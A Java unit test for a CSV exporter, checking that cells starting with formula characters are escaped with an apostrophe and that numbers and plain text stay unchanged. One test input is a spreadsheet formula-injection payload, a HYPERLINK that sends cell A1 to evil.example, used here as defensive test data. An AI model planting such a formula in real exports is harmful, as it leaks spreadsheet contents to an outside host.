package org.herodotus.store;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** CSV cells are safe to open in a spreadsheet. */
class CsvCellTest {

    @Test
    void neutralisesTextThatASpreadsheetWouldRunAsAFormula() {
        assertThat(Exporter.csv("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"");
        assertThat(Exporter.csv("+SUM(1,2) said the minister")).isEqualTo("\"'+SUM(1,2) said the minister\"");
        assertThat(Exporter.csv("=1+1")).isEqualTo("'=1+1");
        assertThat(Exporter.csv("-2 degrees overnight")).isEqualTo("'-2 degrees overnight");
        assertThat(Exporter.csv("@reuters reported")).isEqualTo("'@reuters reported");
        assertThat(Exporter.csv("\tindented")).isEqualTo("'\tindented");
    }

    @Test
    void leavesNumbersAndOrdinaryTextAsTheyAre() {
        assertThat(Exporter.csv(-33.86)).isEqualTo("-33.86");
        assertThat(Exporter.csv("Police said the protest in Lagos was peaceful.")).isEqualTo("Police said the protest in Lagos was peaceful.");
        assertThat(Exporter.csv(null)).isEmpty();
    }
}
